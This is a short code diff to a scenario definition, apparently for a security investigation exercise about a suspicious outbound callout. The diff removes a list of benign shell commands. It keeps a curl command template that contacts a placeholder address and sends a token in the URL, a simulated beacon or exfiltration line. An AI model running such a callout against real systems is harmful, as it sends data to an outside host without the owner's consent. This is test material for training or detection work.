@@ -46,18 +46,6 @@ SCENARIO = Scenario(
         "raises an alert. Find the command, the address, whoever was connected, and what was done to the server."
     ),
     settings=MaliciousCalloutSettings,
-    harmless_commands=(
-        "whoami",
-        "id",
-        "pwd",
-        "ls -l /home",
-        "ls /var/log",
-        "uname -r",
-        "uptime",
-        "df -h /",
-        "ps -ef | head -5",
-        "cat /etc/os-release",
-    ),
     commands=("curl -s -m 5 -o /dev/null http://{address}/{token}",),
     marks=Marks(in_command=("{address}",)),
 )
